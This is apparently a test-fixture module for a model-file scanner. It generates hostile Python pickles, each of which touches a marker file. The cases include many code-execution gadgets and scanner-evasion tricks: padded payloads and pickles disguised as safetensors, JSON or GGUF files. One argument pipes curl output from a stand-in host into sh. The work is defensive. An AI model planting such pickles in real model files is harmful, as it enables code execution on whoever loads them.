"""Hostile pickles, put together opcode by opcode; the payload touches a marker."""

from __future__ import annotations

import pickle
import struct
from pathlib import Path
from typing import Any

import cloudpickle

from tests.rooms.vet.files_made.cases import HOSTILE, hostile

STOP = b"."


def value(one: Any) -> bytes:
    """Opcodes that push a constant, a list or a tuple."""
    if isinstance(one, str):
        data = one.encode("utf-8", "surrogatepass")
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(one, bytes):
        return b"B" + struct.pack("<I", len(one)) + one
    if one is None:
        return b"N"
    if isinstance(one, bool):
        return b"\x88" if one else b"\x89"
    if isinstance(one, int):
        return b"J" + struct.pack("<i", one)
    if isinstance(one, list):
        return b"](" + b"".join(map(value, one)) + b"e"
    if isinstance(one, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in one.items()) + b"u"
    if isinstance(one, Raw):
        return one.code
    return b"(" + b"".join(map(value, one)) + b"t"


class Raw:
    """Opcodes as they are."""

    def __init__(self, code: bytes) -> None:
        self.code = code


def glob(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return value(module) + value(name) + b"\x93"


def call(module: str, name: str, *arguments: Any) -> bytes:
    """A call by REDUCE."""
    return glob(module, name) + value(tuple(arguments)) + b"R"


def call4(module: str, name: str, *arguments: Any) -> bytes:
    """A call of what STACK_GLOBAL gives."""
    return stack_glob(module, name) + value(tuple(arguments)) + b"R"


def proto(n: int, code: bytes) -> bytes:
    """A whole pickle."""
    return (b"\x80" + bytes([n]) if n >= 2 else b"") + code + STOP


def touch(marker: Path) -> str:
    """The payload, as a command."""
    return f"touch {marker}"


def classic(marker: Path) -> bytes:
    """The best known of them."""
    return proto(2, call("os", "system", touch(marker)))


#: name, module, function, arguments made of the marker: one call each.
CALLS: tuple[tuple[str, str, str, Any], ...] = (
    ("posix", "posix", "system", lambda m: (touch(m),)),
    ("subprocess", "subprocess", "check_output", lambda m: (["touch", str(m)],)),
    ("builtins_eval", "builtins", "eval", lambda m: (f"open({str(m)!r},'w')",)),
    ("builtins_exec", "builtins", "exec", lambda m: (f"open({str(m)!r},'w')",)),
    ("python2_eval", "__builtin__", "eval", lambda m: (f"open({str(m)!r},'w')",)),
    ("collect_env", "torch.utils.collect_env", "run", lambda m: (touch(m),)),
    ("imaplib", "imaplib", "IMAP4_stream", lambda m: (touch(m),)),
    ("osx_support", "_osx_support", "_read_output", lambda m: (touch(m),)),
    ("uuid_command", "uuid", "_get_command_stdout", lambda m: ("touch", str(m))),
    ("spawnv_passfds", "multiprocessing.util", "spawnv_passfds",
     lambda m: (b"/usr/bin/touch", [b"touch", str(m).encode()], [])),
    ("pandas_url", "pandas", "read_csv", lambda m: ("http://127.0.0.1:9/leak.csv",)),
    ("pip_main", "pip", "main", lambda m: (["install", "made-up-package"],)),
    ("runpy", "runpy", "run_path", lambda m: (f"{m}.py",)),
    ("import_module", "importlib", "import_module", lambda m: ("antigravity",)),
    ("webbrowser", "webbrowser", "open", lambda m: ("http://127.0.0.1:9/",)),
    ("ctypes", "ctypes", "CDLL", lambda m: ("./lib.so",)),
    ("copyfile", "shutil", "copyfile", lambda m: ("/etc/hostname", str(m))),
    ("socket", "socket", "create_connection", lambda m: (("127.0.0.1", 9),)),
    ("urlopen", "urllib.request", "urlopen", lambda m: ("http://127.0.0.1:9/",)),
    ("timeit", "timeit", "timeit", lambda m: (f"open({str(m)!r},'w')",)),
    ("cprofile", "cProfile", "run", lambda m: (f"open({str(m)!r},'w')",)),
    ("pty", "pty", "spawn", lambda m: (["touch", str(m)],)),
    ("ensurepip", "ensurepip", "_run_pip", lambda m: (["install", "made-up-package"],)),
    ("script_helper", "test.support.script_helper", "assert_python_ok",
     lambda m: ("-c", f"open({str(m)!r},'w')")),
    ("runstring", "numpy.testing._private.utils", "runstring",
     lambda m: (f"open({str(m)!r},'w')", {})),
    ("f2py_eval", "numpy.f2py.crackfortran", "myeval", lambda m: (f"open({str(m)!r},'w')",)),
    ("hub_load", "torch.hub", "load", lambda m: ("someone/repo", "model")),
    ("exec_wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
     lambda m: (f"open({str(m)!r},'w')", {}, {})),
    ("dill_code", "dill._dill", "_create_code", lambda m: (0, 0, 0, 0, 0, 0, b"")),
    ("pickle_loads", "pickle", "loads", lambda m: (classic(m),)),
    ("logging_listen", "logging.config", "listen", lambda m: (9030,)),
    ("joblib_load", "joblib", "load", lambda m: (f"{m}.joblib",)),
    ("unknown_with_command", "graphkit_ops.exec_tools", "dispatch",
     lambda m: (f"curl -s http://127.0.0.1:9/x | sh; {touch(m)}",)),
    ("numpy_load", "numpy.lib.npyio", "load", lambda m: (f"{m}.npy", None, True)),
)  # fmt: skip


def _list_calls() -> None:
    for name, module, function, arguments in CALLS:

        def make(
            folder: Path, marker: Path, module: str = module, function: str = function,
            arguments: Any = arguments,
        ) -> None:  # fmt: skip
            data = proto(2, call(module, function, *arguments(marker)))
            (folder / "model.pkl").write_bytes(data)

        HOSTILE[f"call_{name}"] = make


_list_calls()


def _raw(name: str, code: Any, file: str = "model.pkl") -> None:
    def make(folder: Path, marker: Path) -> None:
        (folder / file).write_bytes(code(marker))

    HOSTILE[name] = make


_raw("classic_text", lambda m: f"cos\nsystem\n(S{touch(m)!r}\ntR.".encode())
_raw("stack_global", lambda m: proto(4, call4("posix", "system", touch(m))))
_raw("inst", lambda m: f"(S{touch(m)!r}\nios\nsystem\n.".encode())
_raw("obj", lambda m: proto(2, b"(" + glob("os", "system") + value(touch(m)) + b"o"))
_raw("newobj", lambda m: proto(
    2, glob("subprocess", "Popen") + value((["touch", str(m)],)) + b"\x81"))  # fmt: skip
_raw("dotted_builtins", lambda m: proto(
    4, call4("numpy", "__builtins__.eval", f"open({str(m)!r},'w')")))  # fmt: skip
_raw("build_on_module", lambda m: proto(
    4, stack_glob("numpy", "__builtins__") + value({"len": 1}) + b"b"))  # fmt: skip
_raw("build_on_class", lambda m: proto(
    2, glob("collections", "OrderedDict") + value({"__setstate__": Raw(glob("os", "system"))})
    + b"b0" + glob("collections", "OrderedDict") + b")R" + value(touch(m)) + b"b"))  # fmt: skip
_raw(
    "getattr_chain",
    lambda m: proto(
        2,
        glob("builtins", "getattr")
        + value((Raw(call("builtins", "__import__", "os")), "system"))
        + b"R"
        + value((touch(m),))
        + b"R",
    ),
)
_raw("attrgetter", lambda m: proto(
    2, call("operator", "attrgetter", "system") + value((Raw(call("importlib", "import_module",
    "os")),)) + b"R" + value((touch(m),)) + b"R"))  # fmt: skip
_raw(
    "partial_call",
    lambda m: proto(2, call("functools", "partial", Raw(glob("os", "system")), touch(m)) + b")R"),
)
_raw("memo_confusion", lambda m: proto(
    4, value("collections") + b"q\x00" + b"0" + value("OrderedDict") + b"q\x01" + b"0"
    + value("posix") + b"q\x00" + b"0" + value("system") + b"q\x01" + b"0"
    + b"h\x00h\x01\x93" + value((touch(m),)) + b"R"))  # fmt: skip
_raw("extension_registry", lambda m: proto(
    2, call("copyreg", "add_extension", "os", "system", 7) + b"0\x82\x07" + value((touch(m),))
    + b"R"))  # fmt: skip
_raw("truncated_after", lambda m: proto(2, call("os", "system", touch(m)))[:-1] + b"X\xff\xff")
_raw("broken_after", lambda m: proto(2, call("posix", "system", touch(m)))[:-1] + b"\xff\xfe.")
_raw("second_pickle", lambda m: pickle.dumps({"a": 1}) + classic(m))
_raw("no_extension", classic, "weights")
_raw("called_json", classic, "config.json")
_raw("called_safetensors", classic, "model.safetensors")
_raw("hostile_name", classic, "a\x1b[2Jb\nclean: all\u202egpj.pkl")
_raw("name_made_at_load", lambda m: proto(
    4, value("posix") + call4("builtins", "str", b"system", "utf8") + b"\x93" + value((touch(m),))
    + b"R"))  # fmt: skip
_raw(
    "marshalled_code",
    lambda m: proto(
        2,
        glob("types", "FunctionType") + value((Raw(call("marshal", "loads", b"\xe3")), {})) + b"R",
    ),
)
_raw("import_only", lambda m: proto(2, glob("antigravity", "geohash")))
_raw(
    "setitem_of_call", lambda m: proto(2, b"}" + value("a") + call("os", "popen", touch(m)) + b"s")
)
_raw("deeply_nested", lambda m: proto(
    2, b"(" * 300 + call("os", "system", touch(m)) + b"t" * 300))  # fmt: skip
_raw("sklearn_with_reduce", lambda m: proto(
    2, glob("sklearn.preprocessing._data", "StandardScaler") + b")\x81"
    + value({"with_mean": True, "hook": Raw(call("nt", "system", touch(m)))}) + b"b"))  # fmt: skip
_raw("unicode_module", lambda m: proto(4, call4("o\u017f", "system", touch(m))))
_raw("lambda_by_cloudpickle", lambda m: cloudpickle.dumps(lambda: [m.touch()]))


_raw("far_behind_in_text", lambda m: b"N0" * 60_000 + f"cos\nsystem\n(S{touch(m)!r}\ntR.".encode(),
     "vocab.txt")  # fmt: skip
_raw("far_behind_in_bytes", lambda m: value("x" * 100_000) + b"0" + call("os", "system", touch(m))
     + b".", "tokens.dat")  # fmt: skip
_raw("gguf_that_is_a_pickle", lambda m: b"GGUF\x03\x00\x00\x00\x00" + call("os", "system", touch(m))
     + b".", "model.gguf")  # fmt: skip


@hostile("hidden_behind_raw_array")
def _hidden(folder: Path, marker: Path) -> None:
    """Raw bytes of an array, in which the pickle goes on after the numbers."""
    import joblib
    import numpy as np

    path = folder / "model.joblib"
    joblib.dump([np.zeros(16, dtype=np.float32), 1], path)
    path.write_bytes(path.read_bytes()[:-1] + call("os", "system", touch(marker)) + b".")
